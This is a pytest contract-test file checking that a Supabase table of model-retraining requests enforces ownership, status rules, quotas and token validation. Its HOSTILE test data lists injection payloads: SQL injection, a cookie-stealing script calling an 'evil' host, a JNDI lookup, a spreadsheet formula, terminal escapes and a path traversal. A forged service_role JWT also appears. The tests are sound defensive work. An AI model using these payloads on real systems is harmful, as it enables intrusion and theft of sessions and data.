"""Requests from signed-in users: their own, pending and few; asked for, read and cancelled."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from functools import partial
from typing import Any

import httpx
import jwt
import psycopg
import pytest

from tests.contract.supabase.callers import (
    OTHER,
    REQUESTS,
    UNSEEN,
    USER,
    Caller,
    Callers,
    Row,
    at_once,
    code_of,
    everything,
    insert,
    let_be_known,
    migrate,
    open_callers,
    rows,
)
from tests.support.factories import MODEL_NAME, NOW, make_id
from tests.support.supabase.project import SupabaseProject

REFUSED, NOT_THEIRS_TO_SAY, NO_LONGER, NONE_THERE, TOO_MANY = (
    "42501",
    "MLP04",
    "MLP02",
    "MLP03",
    "MLP06",
)
OPEN_PER_USER = 3
LATER = (NOW + timedelta(hours=1)).isoformat()
SECRET = "a reason that is nobody else's business"

# A request in every state, as the functions leave it.
IN_WORK = {"retraining_run_id": make_id(1), "claimed_at": NOW.isoformat(), "attempts": 1}
DONE = {**IN_WORK, "processed_at": LATER}
STATES: dict[str, Row] = {
    "pending": {},
    "processing": {**IN_WORK, "lease_until": LATER},
    "completed": DONE,
    "failed": {**DONE, "error_message": "no luck"},
    "cancelled": {"processed_at": LATER},
}
HOSTILE = {
    "an end of the statement": "'; drop table model_retraining_requests; --",
    "a dollar quote": "$$; select pg_sleep(9); $body$",
    "a script": "<script>fetch('//evil/' + document.cookie)</script>",
    "a template": "{{7*7}} ${jndi:ldap://evil/x} %s %n {0}",
    "a formula": "=cmd|' /C calc'!A0",
    "an escape of a terminal": "\x1b]0;owned\x07\x1b[2J\r\n\tforged line",
    "text that runs backwards": "\u202egnp.exe\u200b\ufeff \U0001f600",
    "a path": "../../../../etc/passwd",
    "JSON": '{"status": "completed", "requested_by": null}',
    "a null": "null",
    "nothing but spaces": "  ",
    "the longest there may be": "'\U0001f600" * 1000,
}

Ask = Callable[..., httpx.Response]


def ask_directly(caller: Caller, **values: object) -> httpx.Response:
    return caller.table("POST", REQUESTS, values)


def ask_by_function(caller: Caller, **values: object) -> httpx.Response:
    return caller.call("submit_retraining_request", p_request=values)


def cancel_directly(caller: Caller, request_id: str) -> httpx.Response:
    return caller.table("PATCH", REQUESTS, {"status": "cancelled"}, id=f"eq.{request_id}")


def cancel_by_function(caller: Caller, request_id: str) -> httpx.Response:
    return caller.call("cancel_retraining_request", p_request_id=request_id, p_now=LATER)


both_ways_to_ask = pytest.mark.parametrize("ask", [ask_directly, ask_by_function])
both_ways_to_cancel = pytest.mark.parametrize("cancel", [cancel_directly, cancel_by_function])


def put(project: SupabaseProject, number: int, user: str = USER, status: str = "pending") -> str:
    """Insert a request in that state."""
    row = {"id": make_id(number), "requested_by": user, "status": status, "reason": SECRET}
    insert(project, REQUESTS, {**row, "model_name": MODEL_NAME, **STATES[status]})
    return make_id(number)


def is_now(text: str) -> bool:
    return abs(datetime.fromisoformat(text) - datetime.now(UTC)) < timedelta(minutes=1)


@pytest.fixture(scope="module", autouse=True)
def shared_callers(supabase: SupabaseProject) -> Iterator[Callers]:
    supabase.blank()
    migrate(supabase)
    with open_callers(supabase) as opened:
        yield opened


@pytest.fixture
def callers(project: SupabaseProject, shared_callers: Callers) -> Callers:
    assert project.gateway.requests == []
    return shared_callers


# ------------------------------------------------------------------------------------- asking


@both_ways_to_ask
def test_a_user_asks_as_themselves_and_now(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    assert ask(callers["user"], reason="please", priority="high").is_success
    assert ask(callers["user"], requested_by=USER, status="pending").is_success
    first, second = sorted(rows(project, REQUESTS), key=lambda row: str(row["created_at"]))
    for row in (first, second):
        assert (row["requested_by"], row["status"], row["attempts"]) == (USER, "pending", 0)
        assert (row["model_name"], is_now(row["created_at"])) == ("default", True)
        assert (row["retraining_run_id"], row["lease_until"]) == (None, None)
    assert (first["reason"], first["priority"], second["reason"]) == ("please", "high", "")


NOT_THEIRS: list[Row] = [
    {"requested_by": OTHER},
    {"status": "processing"},
    {"status": "completed"},
    {"status": "failed"},
    {"status": "cancelled"},
    {"retraining_run_id": make_id(1)},
    {"attempts": 0},
    {"attempts": -9},
    {"claimed_at": LATER},
    {"lease_until": LATER},
    {"processed_at": LATER},
    {"created_at": "1990-01-01T00:00:00Z"},
    {"updated_at": "1990-01-01T00:00:00Z"},
    {"error_message": "mine"},
    {"priority_rank": -1},
    {"status": "processing", "retraining_run_id": make_id(1), "lease_until": LATER},
]


@pytest.mark.parametrize("values", NOT_THEIRS, ids=lambda values: "-".join(map(str, values)))
def test_columns_that_are_not_theirs_are_refused_in_an_insert(
    project: SupabaseProject, callers: Callers, values: Row
) -> None:
    assert code_of(ask_directly(callers["user"], **values)) in {REFUSED, "23514", "428C9"}
    unseen = callers["user"].table("POST", REQUESTS, values, prefer=UNSEEN)
    assert code_of(unseen) == code_of(ask_directly(callers["user"], **values))
    many = [{"reason": "fine"}, values]
    batch = callers["user"].table("POST", REQUESTS, many, prefer=f"{UNSEEN},missing=default")
    assert not batch.is_success
    assert rows(project, REQUESTS) == []


def test_columns_that_are_not_theirs_are_ignored_by_the_function(
    project: SupabaseProject, callers: Callers
) -> None:
    values = {name: value for values in NOT_THEIRS for name, value in values.items()}
    assert ask_by_function(callers["user"], **values).is_success
    (row,) = rows(project, REQUESTS)
    assert (row["requested_by"], row["status"], row["attempts"]) == (USER, "pending", 0)
    assert (row["priority_rank"], row["error_message"], row["processed_at"]) == (1, None, None)
    assert (row["retraining_run_id"], row["claimed_at"], row["lease_until"]) == (None, None, None)
    assert is_now(row["created_at"])
    assert is_now(row["updated_at"])


def no_one(project: SupabaseProject, callers: Callers) -> Caller:
    """Somebody with the token of a signed-in user that names no user."""
    return Caller(callers["user"].http, project.anon_key, project.keys.user_token(""))


def late(project: SupabaseProject, callers: Callers) -> Caller:
    user = callers["user"]
    return Caller(user.http, user.key, project.keys.expired(user.token))


def forger(project: SupabaseProject, callers: Callers) -> Caller:
    claims = {"role": "service_role", "sub": USER, "exp": 4_000_000_000}
    secret = "a secret of one's own, long enough for HS256"
    return Caller(callers["user"].http, project.anon_key, jwt.encode(claims, secret))


@both_ways_to_ask
@pytest.mark.parametrize("make", [no_one, late, forger])
def test_a_token_without_a_user_or_a_valid_signature_opens_nothing(
    project: SupabaseProject,
    callers: Callers,
    make: Callable[[SupabaseProject, Callers], Caller],
    ask: Ask,
) -> None:
    stranger = make(project, callers)
    mine = put(project, 1)
    before = everything(project)
    assert not ask(stranger).is_success
    assert not ask(stranger, requested_by=USER).is_success
    assert not stranger.table("POST", REQUESTS, {"requested_by": USER}, prefer=UNSEEN).is_success
    assert not cancel_by_function(stranger, mine).is_success
    cancel_directly(stranger, mine)
    read = stranger.table("GET", REQUESTS)
    assert not read.is_success or read.json() == []
    assert everything(project) == before


@both_ways_to_ask
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_kept_as_text(
    project: SupabaseProject, callers: Callers, ask: Ask, text: str
) -> None:
    user = callers["user"]
    name = text[:200]
    let_be_known(project, name)
    assert ask(user, reason=text, model_name=name).is_success
    assert code_of(ask(user, priority=text)) == "23514"
    assert code_of(ask(user, id=text)) == "22P02"
    assert code_of(cancel_by_function(user, text)) == "22P02"
    (row,) = rows(project, REQUESTS)
    assert (row["reason"], row["model_name"], row["priority"]) == (text, name, "normal")
    assert [row["reason"] for row in user.table("GET", REQUESTS).json()] == [text]
    listed = callers["service"].call("list_retraining_requests", p_model_name=name).json()
    assert [row["reason"] for row in listed] == [text]
    found = user.table("GET", REQUESTS, reason=f"eq.{text[:200]}").json()
    assert len(found) == (len(text) <= 200)


@both_ways_to_ask
@pytest.mark.parametrize(
    ("values", "code"),
    [
        ({"reason": "x" * 2001}, NOT_THEIRS_TO_SAY),
        ({"model_name": "x" * 201}, NOT_THEIRS_TO_SAY),
        ({"model_name": ""}, "23514"),
        ({"reason": "before\x00after"}, "22P05"),
    ],
    ids=["a long reason", "a long name", "no name", "a zero byte"],
)
def test_text_that_cannot_be_kept_is_refused(
    project: SupabaseProject, callers: Callers, ask: Ask, values: Row, code: str
) -> None:
    assert code_of(ask(callers["user"], **values)) == code
    assert rows(project, REQUESTS) == []


# ------------------------------------------------------------------------------------ reading


def test_users_read_their_own_requests_whatever_they_ask_for(
    project: SupabaseProject, callers: Callers
) -> None:
    mine, theirs = put(project, 1, USER), put(project, 2, OTHER)
    insert(project, REQUESTS, {"id": make_id(3), "requested_by": None})
    for who, request_id in (("user", mine), ("other", theirs)):
        for query in (
            {},
            {"requested_by": "not.is.null"},
            {"or": "(status.eq.pending,attempts.gt.0)"},
        ):
            answer = callers[who].table("GET", REQUESTS, prefer="count=exact", **query)
            assert [row["id"] for row in answer.json()] == [request_id]
            assert answer.headers["Content-Range"] == "0-0/1"
    for query in (
        {"id": f"eq.{theirs}"},
        {"requested_by": f"eq.{OTHER}"},
        {"id": f"eq.{make_id(3)}"},
    ):
        answer = callers["user"].table("GET", REQUESTS, prefer="count=exact", **query)
        assert (answer.json(), answer.headers["Content-Range"]) == ([], "*/0")
    assert len(callers["service"].table("GET", REQUESTS).json()) == 3


def test_a_refusal_reveals_nothing_about_anothers_request(
    project: SupabaseProject, callers: Callers
) -> None:
    theirs = put(project, 1, OTHER)
    before = everything(project)
    user = callers["user"]
    answers = [
        ask_directly(user, id=theirs),
        ask_by_function(user, id=theirs),
        cancel_directly(user, theirs),
        cancel_by_function(user, theirs),
        user.table("POST", REQUESTS, {"id": theirs}, prefer="resolution=merge-duplicates"),
        user.table("POST", REQUESTS, {"id": theirs}, prefer="resolution=ignore-duplicates"),
        user.table("DELETE", REQUESTS, id=f"eq.{theirs}"),
    ]
    for answer in answers:
        assert not answer.is_success or answer.json() == []
        assert SECRET not in answer.text
        assert OTHER not in answer.text
    assert everything(project) == before


# --------------------------------------------------------------------------------- cancelling


@both_ways_to_cancel
def test_a_user_cancels_their_own_pending_request(
    project: SupabaseProject, callers: Callers, cancel: Callable[[Caller, str], httpx.Response]
) -> None:
    mine, another = put(project, 1), put(project, 2)
    before = {row["id"]: row for row in rows(project, REQUESTS)}
    assert cancel(callers["user"], mine).is_success
    after = {row["id"]: row for row in rows(project, REQUESTS)}
    changed = {name for name in after[mine] if after[mine][name] != before[mine][name]}
    assert changed == {"status", "processed_at", "updated_at"}
    assert after[mine]["status"] == "cancelled"
    # The clock is the database's, not the caller's.
    assert is_now(after[mine]["processed_at"])
    assert after[another] == before[another]
    cancel(callers["user"], mine)
    assert {row["id"]: row for row in rows(project, REQUESTS)} == after


@pytest.mark.parametrize("status", STATES)
def test_nobody_cancels_anothers_request(
    project: SupabaseProject, callers: Callers, status: str
) -> None:
    mine = put(project, 1, USER, status)
    before = everything(project)
    for who, code in (("other", NONE_THERE), ("anon", REFUSED)):
        assert code_of(cancel_by_function(callers[who], mine)) == code
        answer = cancel_directly(callers[who], mine)
        assert code_of(answer) == REFUSED if who == "anon" else answer.json() == []
        callers[who].table("PATCH", REQUESTS, {"status": "cancelled"}, prefer=UNSEEN)
    assert everything(project) == before


@pytest.mark.parametrize("status", ["processing", "completed", "failed"])
def test_a_request_in_work_or_finished_cannot_be_cancelled(
    project: SupabaseProject, callers: Callers, status: str
) -> None:
    mine = put(project, 1, USER, status)
    before = everything(project)
    assert code_of(cancel_by_function(callers["user"], mine)) == NO_LONGER
    assert cancel_directly(callers["user"], mine).json() == []
    assert everything(project) == before


@pytest.mark.parametrize(
    "change",
    [
        {"reason": "edited"},
        {"priority": "high"},
        {"model_name": "another"},
        {"requested_by": OTHER},
        {"id": make_id(99)},
        {"retraining_run_id": None},
        {"attempts": 0},
        {"lease_until": None},
        {"claimed_at": None},
        {"processed_at": None},
        {"created_at": "1990-01-01T00:00:00Z"},
        {"error_message": None},
        {"status": "pending"},
        {"status": "processing"},
        {"status": "completed"},
        {"status": "failed"},
        {"status": "cancelled", "reason": "edited"},
        {"status": "cancelled", "processed_at": "1990-01-01T00:00:00Z"},
    ],
    ids=lambda change: "-".join(map(str, [*change, change.get("status", "")])).strip("-"),
)
def test_a_users_row_cannot_be_edited_in_any_state(
    project: SupabaseProject, callers: Callers, change: Row
) -> None:
    ids = [put(project, number, USER, status) for number, status in enumerate(STATES)]
    before = everything(project)
    for request_id in ids:
        answer = callers["user"].table("PATCH", REQUESTS, change, id=f"eq.{request_id}")
        assert code_of(answer) in {REFUSED, "23514"} if not answer.is_success else not answer.json()
    every = [{"id": request_id, **change} for request_id in ids]
    callers["user"].table("PATCH", REQUESTS, change, prefer=UNSEEN)
    callers["user"].table("POST", REQUESTS, every, prefer="resolution=merge-duplicates")
    callers["user"].table("PUT", REQUESTS, every[0], id=f"eq.{ids[0]}")
    assert everything(project) == before


@both_ways_to_ask
def test_a_cancelled_request_stays_cancelled(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    user = callers["user"]
    mine = make_id(1)
    assert ask(user, id=mine, reason="please").is_success
    assert cancel_directly(user, mine).is_success
    before = everything(project)
    ask(user, id=mine, reason="please")
    user.table("PATCH", REQUESTS, {"status": "pending"}, id=f"eq.{mine}")
    user.table(
        "POST", REQUESTS, {"id": mine, "status": "pending"}, prefer="resolution=merge-duplicates"
    )
    assert everything(project) == before
    assert [row["status"] for row in rows(project, REQUESTS)] == ["cancelled"]


@both_ways_to_cancel
def test_of_a_cancel_and_a_claim_at_once_exactly_one_wins(
    project: SupabaseProject, callers: Callers, cancel: Callable[[Caller, str], httpx.Response]
) -> None:
    claim = {"p_model_name": MODEL_NAME, "p_run_id": make_id(1)}
    times = {"p_now": NOW.isoformat(), "p_lease_until": LATER}
    for number in range(10):
        mine = put(project, number)
        cancelled, claimed = at_once(
            partial(cancel, callers["user"], mine),
            partial(callers["service"].call, "claim_retraining_request", **claim, **times),
        )
        row = next(row for row in rows(project, REQUESTS) if row["id"] == mine)
        won = cancelled.is_success and cancelled.json() not in ([], None)
        assert row["status"] == ("cancelled" if won else "processing")
        assert (row["retraining_run_id"] is None) == won
        assert (claimed.json() is None) == won


# ------------------------------------------------------------------------------------- limits


def ask_either_way(caller: Caller, **values: object) -> httpx.Response:
    odd = str(values["id"])[-1] in "13579"
    return (ask_directly if odd else ask_by_function)(caller, **values)


@pytest.mark.parametrize("ask", [ask_directly, ask_by_function, ask_either_way])
def test_the_limit_per_user_holds_against_parallel_requests(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    owners = {make_id(number): "user" if number <= 5 else "other" for number in range(1, 11)}
    waiting = "select count(*) as n from pg_stat_activity where wait_event_type = 'Lock'"

    def all_wait() -> None:
        deadline = time.monotonic() + 6
        while (begun := project.sql(waiting)[0]["n"]) < len(owners) and time.monotonic() < deadline:
            time.sleep(0.01)
        first.rollback()
        assert begun == len(owners)

    # Somebody has all the ids in hand, so that nobody is done before everybody has begun.
    with psycopg.connect(project.dsn) as first:
        for request_id in owners:
            first.execute("insert into model_retraining_requests (id) values (%s)", [request_id])
        answers = at_once(
            *(partial(ask, callers[who], id=request_id) for request_id, who in owners.items()),
            before=all_wait,
        )
    codes = [code_of(answer) for answer in answers]
    assert sorted(map(str, codes)) == [TOO_MANY] * 4 + ["None"] * 2 * OPEN_PER_USER
    kept = sorted(row["requested_by"] for row in rows(project, REQUESTS))
    assert kept == [USER] * OPEN_PER_USER + [OTHER] * OPEN_PER_USER


@pytest.mark.parametrize("prefer", ["", "resolution=ignore-duplicates", "missing=default"])
def test_one_insert_of_many_rows_meets_the_limit_as_well(
    project: SupabaseProject, callers: Callers, prefer: str
) -> None:
    many = [{"reason": str(number)} for number in range(OPEN_PER_USER + 1)]
    assert code_of(callers["user"].table("POST", REQUESTS, many, prefer=prefer)) == TOO_MANY
    assert rows(project, REQUESTS) == []
    assert callers["user"].table("POST", REQUESTS, many[1:], prefer=prefer).is_success
    assert len(rows(project, REQUESTS)) == OPEN_PER_USER


@both_ways_to_ask
def test_requests_in_work_count_and_finished_ones_do_not(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    for number, status in enumerate(["processing", "completed", "failed", "cancelled", "pending"]):
        put(project, number, USER, status)
    assert ask(callers["user"]).is_success
    assert code_of(ask(callers["user"])) == TOO_MANY
    assert cancel_directly(callers["user"], make_id(4)).is_success
    assert ask(callers["user"]).is_success


@both_ways_to_ask
def test_the_limit_over_all_users_holds(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    limit(project, open_requests_total=2)
    for name in (MODEL_NAME, "another"):
        let_be_known(project, name)
    put(project, 1, OTHER)
    assert ask(callers["user"], model_name=MODEL_NAME).is_success
    answers = at_once(
        *(partial(ask, callers[who], model_name=MODEL_NAME) for who in ("user", "other") * 3)
    )
    assert {code_of(answer) for answer in answers} == {TOO_MANY}
    assert len(rows(project, REQUESTS)) == 2
    assert ask(callers["service"], model_name=MODEL_NAME).is_success
    # Requests for one model stand in nobody's way who asks for another.
    assert ask(callers["user"], model_name="another").is_success


def limit(project: SupabaseProject, **values: int) -> None:
    for name, value in values.items():
        project.sql("update ml_pipeline_limits set value = %s where name = %s", [value, name])


def accounts(project: SupabaseProject, callers: Callers, count: int) -> list[Caller]:
    """So many signed-in users."""
    user = callers["user"]
    tokens = (project.keys.user_token(make_id(1000 + number)) for number in range(count))
    return [Caller(user.http, user.key, token) for token in tokens]


def within(caller: Caller, **values: object) -> httpx.Response:
    """What `requests submit`, the page and the watchdog ask with the service key."""
    request = {"model_name": "default", "created_at": NOW.isoformat(), **values}
    limits = {"p_per_user": 3, "p_total": 50}
    return caller.call("submit_retraining_request_within", p_request=request, **limits)


@both_ways_to_ask
def test_s3_a_request_for_a_model_that_nobody_knows_is_refused(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    for known in ("default", "served", "ran"):
        assert code_of(ask(callers["user"], model_name="nobody's")) == NOT_THEIRS_TO_SAY
        if known == "served":
            let_be_known(project, known)
        elif known == "ran":
            insert(project, "model_retraining_runs", {"model_name": known, "source": "manual"})
        assert ask(callers["user"], model_name=known).is_success
    # Once there is a run, the name that settings have by default is as any other.
    assert code_of(ask(callers["other"])) == NOT_THEIRS_TO_SAY
    assert {row["model_name"] for row in rows(project, REQUESTS)} == {"default", "served", "ran"}


def test_s3_requests_of_many_accounts_block_neither_another_model_nor_the_service(
    project: SupabaseProject, callers: Callers
) -> None:
    for name in ("flooded", "default"):
        let_be_known(project, name)
    for caller in accounts(project, callers, 17):
        answers = [ask_directly(caller, model_name="flooded") for _ in range(3)]
    assert [code_of(answer) for answer in answers] == [None, None, TOO_MANY]
    assert code_of(ask_directly(callers["user"], model_name="flooded")) == TOO_MANY
    assert ask_directly(callers["user"]).is_success
    for values in ({}, {"requested_by": USER}):
        answer = within(callers["service"], id=make_id(2), model_name="flooded", **values)
        assert answer.is_success, answer.text
        project.sql("delete from model_retraining_requests where id = %s", [make_id(2)])


@both_ways_to_ask
def test_s3_a_pending_request_expires_and_counts_no_more(
    project: SupabaseProject, callers: Callers, ask: Ask
) -> None:
    ids = [put(project, number) for number in range(3)]
    let_be_known(project, MODEL_NAME)
    assert code_of(ask(callers["user"], model_name=MODEL_NAME)) == TOO_MANY
    project.sql("update model_retraining_requests set created_at = now() - interval '15 days'")
    assert ask(callers["user"], model_name=MODEL_NAME).is_success
    found = {row["id"]: row for row in rows(project, REQUESTS)}
    for request_id in ids:
        assert found[request_id]["status"] == "failed"
        assert found[request_id]["error_message"].startswith("expired: no run served it since 20")
    assert len(found) == len(ids) + 1


@both_ways_to_ask
@both_ways_to_cancel
def test_s4_what_was_cancelled_counts_in_the_quota_of_the_day(
    project: SupabaseProject,
    callers: Callers,
    ask: Ask,
    cancel: Callable[[Caller, str], httpx.Response],
) -> None:
    limit(project, requests_per_user_and_day=4)
    codes = []
    for number in range(6):
        codes.append(code_of(ask(callers["user"], id=make_id(number))))
        cancel(callers["user"], make_id(number))
    assert codes == [None] * 4 + [TOO_MANY] * 2
    assert len(rows(project, REQUESTS)) == 4
    assert ask(callers["other"]).is_success
    project.sql("update model_retraining_requests set created_at = now() - interval '25 hours'")
    assert ask(callers["user"]).is_success


def test_s4_all_users_together_have_a_quota_of_the_day_for_a_model(
    project: SupabaseProject, callers: Callers
) -> None:
    limit(project, requests_per_day=5, open_requests_total=1000)
    asked = [ask_directly(caller) for caller in accounts(project, callers, 7)]
    assert [code_of(answer) for answer in asked] == [None] * 5 + [TOO_MANY] * 2
    assert within(callers["service"], id=make_id(1)).is_success
    let_be_known(project, "another")
    assert ask_directly(callers["user"], model_name="another").is_success


def test_s4_closed_requests_are_kept_for_a_while_and_unserved_names_are_tidied_along(
    project: SupabaseProject, callers: Callers
) -> None:
    let_be_known(project, MODEL_NAME)
    let_be_known(project, "served elsewhere")
    ids = [put(project, number, USER, status) for number, status in enumerate(STATES)]
    for number, name in ((11, "served elsewhere"), (12, "nobody's")):
        insert(project, REQUESTS, {"id": make_id(number), "model_name": name})
        closed = {"status": "cancelled", "processed_at": LATER}
        insert(project, REQUESTS, {"id": make_id(number + 10), "model_name": name, **closed})
    project.sql("update model_retraining_requests set created_at = '2026-01-01'")
    answer = callers["service"].call(
        "prune_retraining_requests",
        p_model_name=MODEL_NAME,
        p_now="2026-12-01",
        p_pending_before="2026-11-01",
        p_closed_before="2026-10-01",
    )
    assert [row["id"] for row in answer.json()] == [ids[0]]
    found = {row["id"]: row["status"] for row in rows(project, REQUESTS)}
    assert found == {
        ids[0]: "failed",
        ids[1]: "processing",
        make_id(11): "pending",
        make_id(21): "cancelled",
        make_id(12): "failed",
    }


# ------------------------------------------------------------------------------------ defects


def test_defect_12_a_user_can_cancel_and_cannot_insert_any_status_or_run_id(
    project: SupabaseProject, callers: Callers
) -> None:
    user = callers["user"]
    smuggled: list[dict[str, Any]] = [
        {"status": "completed", "retraining_run_id": make_id(1)},
        {"status": "processing", "retraining_run_id": make_id(1), "lease_until": LATER},
        {"retraining_run_id": make_id(1)},
        {"status": "failed"},
    ]
    assert {code_of(ask_directly(user, **values)) for values in smuggled} == {REFUSED}
    assert rows(project, REQUESTS) == []
    (asked,) = ask_directly(user, requested_by=USER, status="pending", reason="please").json()
    (gone,) = cancel_directly(user, asked["id"]).json()
    (row,) = rows(project, REQUESTS)
    assert (row["id"], row["status"], row["requested_by"]) == (gone["id"], "cancelled", USER)
